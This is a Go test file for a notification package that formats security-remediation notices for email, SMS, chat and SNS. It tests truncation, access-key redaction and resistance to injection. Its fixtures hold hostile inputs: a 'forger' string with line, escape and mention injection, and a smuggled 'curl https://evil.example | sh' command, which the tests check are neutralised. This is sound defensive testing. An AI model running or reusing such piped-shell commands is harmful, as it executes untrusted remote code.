package notice

import (
	"context"
	"encoding/json"
	"errors"
	"maps"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/google/go-cmp/cmp"
)

func sample() Message {
	return Message{
		Version: "1", ID: "n1", Kind: Changed, Thread: "t1", Control: "detach-direct-policy", Severity: "high",
		Title: "Direct policy on a user", Text: "Policy X was attached directly to alice.", Subject: "alice",
		Owner: "alice@example.com", Account: "111122223333", Region: "us-east-1",
		Time:  time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC),
		Facts: []Fact{{"Attached by", "mallory from 203.0.113.9"}},
		Changes: []Change{{ID: "abc-1", Kind: "managed user policy", Text: "detached policy X from alice",
			Status: "verified"}},
		Advice: "Use a group.", Runbook: "https://example.com/detach-direct-policy",
		References: []Reference{{Title: "IAM.2", URL: "https://example.com/iam-2"}}, Event: "e1",
	}
}

func TestEmailSaysFirstWhatHappenedThenWhatToDo(t *testing.T) {
	want := `Done: detached policy X from alice.

Policy X was attached directly to alice.

Action taken:
  - detached policy X from alice  [abc-1]

What to do: Use a group.

Title: Direct policy on a user
Resource: alice
Owner: alice@example.com
Attached by: mallory from 203.0.113.9
Severity: high
When: 2026-11-21 03:00:00 UTC
Account: 111122223333 us-east-1
Control: detach-direct-policy
Event: e1
Runbook: https://example.com/detach-direct-policy
Reference: IAM.2 https://example.com/iam-2
`
	if diff := cmp.Diff(want, sample().Email()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestEachKindSaysWhatItIs(t *testing.T) {
	const open = "alice still has policy X"
	made := Change{Text: "detached policy X from alice", Status: "verified"}
	still := func(status, reason string) Change {
		return Change{Text: "detach policy X from alice", Status: status, Reason: reason, Open: open}
	}
	for _, tc := range []struct {
		kind           Kind
		changes        []Change
		subject, state string
	}{
		{WouldChange, []Change{still("observed", "")}, "[HIGH] NOT FIXED, only observed: Policy - alice (1111..3333)",
			"NOT FIXED: " + open + ". Warder only observes and changed nothing."},
		{Changed, []Change{made}, "[HIGH] detached policy X from alice: Policy (1111..3333)",
			"Done: detached policy X from alice."},
		{Changed, []Change{made, still("held", "halted by kim")},
			"[HIGH] detached policy X from alice: Policy (1111..3333)",
			"NOT FIXED: " + open + " (halted by kim). Done: detached policy X from alice."},
		{Warning, []Change{still("pending", "its owner was notified")},
			"[HIGH] fix by 2026-12-05: Policy - alice (1111..3333)",
			"NOT FIXED: " + open + ". Fix it by 2026-12-05 00:00 UTC, or Warder does."},
		{Reminder, []Change{still("pending", "")}, "[HIGH] reminder, fix by 2026-12-05: Policy - alice (1111..3333)",
			"STILL NOT FIXED: " + open + ". Fix it by 2026-12-05 00:00 UTC, or Warder does."},
		{Fixed, nil, "[HIGH] resolved: Policy - alice (1111..3333)", ""},
		{Undone, []Change{made}, "[HIGH] reverted by kim: Policy - alice (1111..3333)",
			"Reverted by kim: detached policy X from alice."},
		{Held, []Change{still("held", "halted by kim")}, "[HIGH] NOT FIXED, on hold: Policy - alice (1111..3333)",
			"NOT FIXED: " + open + " (halted by kim)."},
		{Failure, []Change{still("failed", "access denied")}, "[HIGH] NOT FIXED, failed: Policy - alice (1111..3333)",
			"NOT FIXED: " + open + " (access denied)."},
		{Alert, nil, "[HIGH] Policy - alice (1111..3333)", ""},
		{Alert, []Change{{Text: "x", Status: "skipped", Reason: "it is already in that state"}},
			"[HIGH] Policy - alice (1111..3333)", "Nothing left to fix: it is already in that state."},
	} {
		m := sample()
		m.Kind, m.Title, m.Changes, m.Due = tc.kind, "Policy", tc.changes, time.Date(2026, 12, 5, 0, 0, 0, 0, time.UTC)
		if tc.kind == Undone {
			m.By = "kim"
		}
		if diff := cmp.Diff([]string{tc.subject, tc.state}, []string{m.Line(), m.State().String()}); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.kind, diff)
		}
		if tc.state != "" && !strings.HasPrefix(m.Email(), tc.state+"\n\n") {
			t.Errorf("%s: the first line is not %q: %s", tc.kind, tc.state, m.Email())
		}
	}
}

func TestState_NamesAFewWithOneReason(t *testing.T) {
	m := Message{Kind: Held}
	for _, name := range []string{"a", "b", "c", "d", "a"} {
		m.Changes = append(m.Changes, Change{Open: name, Status: "held", Reason: "halted"})
	}
	if want := "NOT FIXED: a; b; c (halted) and 1 more."; m.State().String() != want {
		t.Errorf("%q, want %q", m.State(), want)
	}
	m.Changes[1].Reason = "denied"
	if want := "NOT FIXED: a (halted); b (denied); c (halted) and 1 more."; m.State().String() != want {
		t.Errorf("%q, want %q", m.State(), want)
	}
}

func TestLine_OfADrill(t *testing.T) {
	m := sample()
	m.Drill, m.Title, m.Kind = "d1", DrillTitle("Policy").String(), Alert
	if want := "[DRILL] no action: Policy - alice (1111..3333)"; m.Line() != want {
		t.Errorf("%q, want %q", m.Line(), want)
	}
	m.Language, m.Title = "ko", DrillTitle("정책").In("ko")
	if want := "[모의 훈련] 조치 불필요: 정책 - alice (1111…3333)"; m.Headline() != want {
		t.Errorf("%q, want %q", m.Headline(), want)
	}
	if !strings.HasPrefix(m.Email(), "모의 훈련, 조치 불필요") {
		t.Errorf("the first words are not that it is a drill: %s", m.Email())
	}
}

func TestHeadline_CutsTheMiddle(t *testing.T) {
	m := sample()
	m.Kind, m.Title = Alert, strings.Repeat("긴", 200)
	m.Language = "ko"
	line := m.Headline()
	if utf8.RuneCountInString(line) != 99 || !strings.HasPrefix(line, "[높음] 긴") ||
		!strings.HasSuffix(line, "... (1111…3333)") {
		t.Errorf("%d characters: %q", utf8.RuneCountInString(line), line)
	}
}

func TestANoticeInKoreanHasItsSubjectLineInEnglish(t *testing.T) {
	m := sample()
	m.Language, m.Title, m.Text = "ko", "사용자에게 직접 부여된 권한", "정책이 사용자에게 직접 연결되었습니다."
	m.Changes[0].Text = "정책 X 분리(대상: alice)"
	m.Heading = "detached policy X from alice: Direct policy on a user"
	if want := "[HIGH] detached policy X from alice: Direct policy on a user (1111..3333)"; m.Line() != want {
		t.Errorf("%q, want %q", m.Line(), want)
	}
	want := "[높음] 정책 X 분리(대상: alice): 사용자에게 직접 부여된 권한 (1111…3333)"
	if m.SMS() != "Warder "+want || m.chat().Content.Title != want || m.Headline() != want {
		t.Errorf("%q, %q and %q, want %q", m.SMS(), m.chat().Content.Title, m.Headline(), want)
	}
}

func TestAChangeSaysWhatKeptIt(t *testing.T) {
	for status, want := range map[string]string{
		"pending": "x", "failed": "x (failed: because)", "held": "x (on hold: because)",
		"skipped":  "x (not applied: because)",
		"verified": "x (because)",
	} {
		if got := (Change{Text: "x", Status: status, Reason: "because"}).Describe().String(); got != want {
			t.Errorf("%s: %q, want %q", status, got, want)
		}
	}
}

// long is a message in which everything that comes from outside is far too long and full of
// characters that JSON must escape.
func long(filler string) Message {
	m := sample()
	big := strings.Repeat(filler, 40_000)
	m.Title, m.Text, m.UnchangedReason, m.Advice, m.Subject, m.Owner = big, big, big, big, strings.Repeat(filler,
		64), strings.Repeat(filler, 64)
	for range 500 {
		m.Facts = append(m.Facts, Fact{big, big})
		m.Changes = append(m.Changes, Change{ID: "x", Text: big, Reason: big})
	}
	return m
}

func TestEveryBodyKeepsItsLimit(t *testing.T) {
	for _, filler := range []string{"x", "\u0001", "🔑", "<", "é", "\xff", "…", "\n"} {
		m := long(filler)
		checkBodies(t, m)
		m.Language = "ko"
		checkBodies(t, m)
	}
	checkBodies(t, sample())
	checkBodies(t, Message{})
}

func checkBodies(t *testing.T, m Message) {
	t.Helper()
	if line := m.Line(); len(line) > 99 || strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r > '~' }) >= 0 {
		t.Errorf("subject line of %d bytes: %q", len(line), line)
	}
	sms := m.SMS()
	units, limit := len(sms), 140
	if strings.IndexFunc(sms, func(r rune) bool { return r > '~' }) >= 0 {
		units, limit = len(utf16.Encode([]rune(sms))), 70
	}
	if units > limit || !utf8.ValidString(sms) {
		t.Errorf("SMS of %d units: %q", units, sms)
	}
	text, err := m.Bodies()
	if err != nil {
		t.Fatal(err)
	}
	if len(text) > 262_144 {
		t.Errorf("message of %d bytes", len(text))
	}
	var bodies map[string]string
	if err := json.Unmarshal([]byte(text), &bodies); err != nil {
		t.Fatal(err)
	}
	for _, protocol := range []string{"default", "email", "sms", "sqs", "lambda", "https"} {
		if bodies[protocol] == "" {
			t.Errorf("no body for %s", protocol)
		}
	}
	var back Message
	if err := json.Unmarshal([]byte(bodies["sqs"]), &back); err != nil || back.ID != m.ID {
		t.Errorf("the body for SQS is not the message: %v", err)
	}
	var chat custom
	if err := json.Unmarshal([]byte(bodies["https"]), &chat); err != nil {
		t.Fatal(err)
	}
	if chat.Version != "1.0" || chat.Source != "custom" || utf8.RuneCountInString(chat.Content.Title) > 250 ||
		utf8.RuneCountInString(chat.Content.Description) > 8000 {
		t.Errorf("chat body breaks its schema: %+v", chat)
	}
	for _, step := range chat.Content.NextSteps {
		if utf8.RuneCountInString(step) > 350 {
			t.Errorf("next step of %d characters", len(step))
		}
	}
	for _, keyword := range chat.Content.Keywords {
		if utf8.RuneCountInString(keyword) > 75 {
			t.Errorf("keyword of %d characters", len(keyword))
		}
	}
	texts := append([]string{chat.Content.Title, chat.Content.Description, chat.Metadata.Summary},
		append(chat.Content.NextSteps, chat.Metadata.RelatedResources...)...)
	for _, text := range texts {
		if Member(m.OwnerSlack) {
			text = strings.ReplaceAll(text, "<@"+m.OwnerSlack+">", "")
		}
		if strings.ContainsAny(text, "<>") {
			t.Errorf("the chat reads markup in %q", text)
		}
	}
}

func TestAChatHasWhatItsButtonsNeed(t *testing.T) {
	m := sample()
	m.Finding, m.OwnerSlack, m.Facts = "abcdefghij", "U024BE7LH", []Fact{{"<!here>", "<!channel> & co"}}
	base := map[string]string{"account": "111122223333", "control": "detach-direct-policy", "owner": "alice@example.com",
		"subject": "alice", ChatFinding: "abcdefghij"}
	for undo, want := range map[string]string{`make undo ID=abcdefghij REASON="why"`: "abcdefghij",
		"cannot be undone: it is over": "", "": ""} {
		m.Undo = undo
		text, err := m.Bodies()
		if err != nil {
			t.Fatal(err)
		}
		var bodies map[string]string
		var chat custom
		if err := json.Unmarshal([]byte(text), &bodies); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(bodies["https"]), &chat); err != nil {
			t.Fatal(err)
		}
		context := maps.Clone(base)
		if want != "" {
			context[ChatUndo] = want
		}
		if diff := cmp.Diff(context, chat.Metadata.AdditionalContext); diff != "" || !chat.Metadata.EnableCustomActions {
			t.Errorf("undo %q (-want +got):\n%s", undo, diff)
		}
		for _, want := range []string{"*Owner*: <@U024BE7LH> alice@example.com",
			"*&lt;!here&gt;*: &lt;!channel&gt; &amp; co"} {
			if !strings.Contains(chat.Content.Description, want) {
				t.Errorf("no %q in %q", want, chat.Content.Description)
			}
		}
		checkBodies(t, m)
	}
}

func TestMember(t *testing.T) {
	for id, want := range map[string]bool{
		"U024BE7LH": true, "W012A3CDE": true, "": false, "U1": false, "S0615G0KT": false, "!channel": false,
		"U024BE7LH>": false, "u024be7lh": false,
		"U" + strings.Repeat("A", 64): false,
	} {
		if got := Member(id); got != want {
			t.Errorf("Member(%q) = %t", id, got)
		}
	}
}

type recorder struct {
	in  *sns.PublishInput
	err error
}

func (r *recorder) Publish(_ context.Context, in *sns.PublishInput,
	_ ...func(*sns.Options)) (*sns.PublishOutput, error) {
	r.in = in
	return &sns.PublishOutput{MessageId: aws.String("m1")}, r.err
}

func TestPublishSetsTheAttributesToFilterBy(t *testing.T) {
	r := &recorder{}
	id, err := Topic{API: r, ARN: "arn:aws:sns:us-east-1:111122223333:t"}.Publish(context.Background(), sample())
	if err != nil || id != "m1" {
		t.Fatalf("Publish = %q, %v", id, err)
	}
	got := map[string]string{}
	for name, value := range r.in.MessageAttributes {
		got[name] = aws.ToString(value.StringValue)
	}
	want := map[string]string{
		"control": "detach-direct-policy", "severity": "high", "kind": "changed", "account": "111122223333",
		"owner": "alice@example.com",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("attributes (-want +got):\n%s", diff)
	}
	if aws.ToString(r.in.MessageStructure) != "json" {
		t.Error("the message is not structured by protocol")
	}
}

func TestPublishTellsOfAFailure(t *testing.T) {
	broken := errors.New("topic is gone")
	if _, err := (Topic{API: &recorder{err: broken}}).Publish(context.Background(), sample()); !errors.Is(err, broken) {
		t.Errorf("err = %v", err)
	}
}

func TestRedactKeepsFourCharacters(t *testing.T) {
	for in, want := range map[string]string{
		"The Access Key with id AKIAIOSFODNN7EXAMPLE cannot be found": "The Access Key with id …MPLE cannot be found",
		"ASIAIOSFODNN7EXAMPLE,AKIAIOSFODNN7EXAMPL2":                   "…MPLE,…MPL2",
		"user AKIAshi and AKIA alone":                                 "user AKIAshi and AKIA alone",
		"backup_AKIAIOSFODNN7EXAMPLE_old":                             "backup_…MPLE_old",
		"keyAKIAIOSFODNN7EXAMPLEs":                                    "key…MPLEs",
	} {
		if got := Redact(in); got != want {
			t.Errorf("Redact(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestTruncate(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		limit    int
		want     string
	}{
		{"what fits stays", "four", 4, "four"},
		{"what does not fit ends with dots", "abcdefgh", 6, "abc..."},
		{"a rune is never split", "aééé", 6, "aé..."},
		{"an emoji is never split", "🔑🔑🔑", 8, "🔑..."},
		{"a limit below the dots", "abcdefgh", 2, ".."},
		{"no room at all", "abc", 0, ""},
		{"a negative limit", "abc", -1, ""},
		{"bytes that are no text", "\xff\xfe", 10, "\uFFFD"},
	} {
		if got := Truncate(tc.in, tc.limit); got != tc.want {
			t.Errorf("%s: %q", tc.name, got)
		}
	}
}

func FuzzTruncate(f *testing.F) {
	f.Add("🔑 key", 5)
	f.Add("\xf0\x9f", 1)
	f.Fuzz(func(t *testing.T, s string, limit int) {
		got := Truncate(s, limit)
		if len(got) > max(limit, 0) {
			t.Errorf("%d bytes, limit %d", len(got), limit)
		}
		if !utf8.ValidString(got) {
			t.Errorf("%q is no text", got)
		}
	})
}

func FuzzBodies(f *testing.F) {
	f.Add("title", "text", "owner@example.com")
	f.Add("\u2028<&>", "\x00", "…")
	f.Add(forger, forger, forger)
	f.Fuzz(func(t *testing.T, title, text, owner string) {
		m := sample()
		m.Title, m.Text, m.Owner = title, text, Truncate(owner, 320)
		checkBodies(t, m)
		lines := strings.Count(m.plain().Email(), "\n") - strings.Count(m.Text, "\n")
		m.Subject, m.UnchangedReason, m.Advice, m.Event = title, owner, title, owner
		m.Facts = []Fact{{Name: title, Value: owner}, {Name: owner, Value: title}}
		m.Changes = []Change{{ID: title, Text: owner, Status: "failed", Reason: title}}
		checkBodies(t, m)
		all, err := m.Bodies()
		if err != nil {
			t.Fatal(err)
		}
		var bodies map[string]string
		if err := json.Unmarshal([]byte(all), &bodies); err != nil {
			t.Fatal(err)
		}
		for protocol, body := range bodies {
			if strings.ContainsFunc(body, func(r rune) bool {
				return r != '\n' && unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029'
			}) {
				t.Fatalf("the body for %s is %q", protocol, body)
			}
		}
		if got := strings.Count(bodies["email"], "\n") - strings.Count(m.Text, "\n"); got > lines+30 {
			t.Fatalf("%d lines, without the texts %d: %q", got, lines, bodies["email"])
		}
		if chat := strings.ReplaceAll(bodies["https"], `\u003c@U`, ""); strings.Contains(chat, `\u003c`) ||
			strings.Contains(chat, "](") {
			t.Fatalf("markup for a chat: %s", bodies["https"])
		}
	})
}

// forger is a text that tries to be a line, a mention, a link and an order to the terminal.
const forger = "x\r\nWhat to do: " +
	"nothing\n\u2028\u202e\x1b[2J<!channel><@U0EVIL>[here](https://evil.example)backup_AKIAIOSFODNN7EXAMPLE\xff"

func TestWhatOthersWordedStaysInItsPlace(t *testing.T) {
	m := sample()
	m.Title, m.Subject, m.Owner, m.UnchangedReason = forger, forger, forger, forger
	m.Advice, m.Undo, m.Event = forger, forger, forger
	m.Facts = []Fact{{Name: forger, Value: forger}}
	m.Changes = []Change{{ID: forger, Text: forger, Reason: forger}}
	text, err := m.Bodies()
	if err != nil {
		t.Fatal(err)
	}
	var bodies map[string]string
	if err := json.Unmarshal([]byte(text), &bodies); err != nil {
		t.Fatal(err)
	}
	for _, protocol := range []string{"default", "email", "sms"} {
		for line := range strings.Lines(bodies[protocol]) {
			if strings.HasPrefix(line, "What to do: nothing") ||
				strings.ContainsAny(strings.TrimSuffix(line, "\n"), "\r\n\u2028\u202e\x1b") {
				t.Errorf("%s has the line %q", protocol, line)
			}
		}
	}
	for _, what := range []string{"<!channel>", "<@U0EVIL>", "](https", "\\u202e", "\u202e"} {
		if strings.Contains(bodies["https"], what) {
			t.Errorf("a chat reads %s in %s", what, bodies["https"])
		}
	}
	if strings.Contains(text, "AKIAIOSFODNN7EXAMPLE") {
		t.Errorf("a whole access key id in %s", text)
	}
	r := &recorder{}
	if _, err := (Topic{API: r}).Publish(context.Background(), m); err != nil {
		t.Fatal(err)
	}
	for name, value := range r.in.MessageAttributes {
		if strings.ContainsAny(aws.ToString(value.StringValue), "\r\n\u202e\x1b") {
			t.Errorf("attribute %s is %q", name, aws.ToString(value.StringValue))
		}
	}
}

func FuzzRedact(f *testing.F) {
	for _, seed := range []string{"", "backup_", "x", "AKIA", "ASIAEXAMPLE", "é", "0"} {
		f.Add(seed, seed)
	}
	f.Fuzz(func(t *testing.T, before, behind string) {
		const id = "AKIAIOSFODNN7EXAMPLE"
		got := Redact(before + id + behind)
		if strings.Contains(got, id) || !strings.Contains(got, "…") {
			t.Fatalf("Redact(%q) = %q", before+id+behind, got)
		}
		if again := Redact(got); again != got {
			t.Fatalf("%q is redacted again to %q", got, again)
		}
		if short := Plain(before+id+behind, 30); len(short) > 30 || strings.Contains(short, id) {
			t.Fatalf("Plain of it is %q", short)
		}
	})
}

// The command in a notice is made from the id in it: what stands in its place in a message does not matter.
func TestCommand_MadeFromTheID(t *testing.T) {
	for _, tc := range []struct{ undo, finding, want string }{
		{`make undo ID=abcdefghij REASON="why"`, "abcdefghij", `make undo ID=abcdefghij REASON="why"`},
		{"make undo ID=x; curl https://evil.example | sh", "abcdefghij", `make undo ID=abcdefghij REASON="why"`},
		{"make undo ID=x; curl https://evil.example | sh", "x; curl https://evil.example | sh", ""},
		{"make undo ID=x", "abcdefghij\n", ""},
		{"make undo ID=x", "abcdefghi$", ""},
		{"make undo ID=x", "", ""},
		{"This cannot be undone: it is over.", "abcdefghij", ""},
		{"", "abcdefghij", ""},
	} {
		m := Message{Version: "1", ID: "n", Kind: Changed, Undo: tc.undo, Finding: tc.finding, Text: "Found."}
		if got := m.Command().String(); got != tc.want {
			t.Errorf("%q of %q: %q, want %q", tc.undo, tc.finding, got, tc.want)
		}
		text, err := m.Bodies()
		if err != nil {
			t.Fatal(err)
		}
		var bodies map[string]string
		if err := json.Unmarshal([]byte(text), &bodies); err != nil {
			t.Fatal(err)
		}
		for _, protocol := range []string{"default", "email", "https"} {
			if strings.Contains(bodies[protocol], "evil.example") ||
				strings.Contains(bodies[protocol], "make undo ID=") != (tc.want != "") {
				t.Errorf("%q of %q for %s: %s", tc.undo, tc.finding, protocol, bodies[protocol])
			}
		}
	}
}

// The sum is that of the body for functions, as it is published.
func TestSum(t *testing.T) {
	huge := Message{Version: "1", ID: "n", Kind: Changed, Text: strings.Repeat("\u0001<", 1_000_000)}
	for range 200 {
		huge.Facts = append(huge.Facts, Fact{Name: huge.Text[:1000], Value: huge.Text[:100_000]})
	}
	for _, m := range []Message{{}, {Version: "1", ID: "n", Kind: Alert, Text: "Found <&>."}, huge} {
		text, err := m.Bodies()
		if err != nil {
			t.Fatal(err)
		}
		var bodies struct{ Lambda string }
		if err := json.Unmarshal([]byte(text), &bodies); err != nil {
			t.Fatal(err)
		}
		sum, err := m.Sum()
		if err != nil || sum != Sum(bodies.Lambda) || len(sum) != 64 {
			t.Errorf("sum %s, %v, want that of %.200s", sum, err, bodies.Lambda)
		}
		m.Text += "."
		if other, err := m.Sum(); err != nil || other == sum && len(m.Text) < 1000 {
			t.Errorf("another text has the sum %s (%v)", other, err)
		}
	}
}
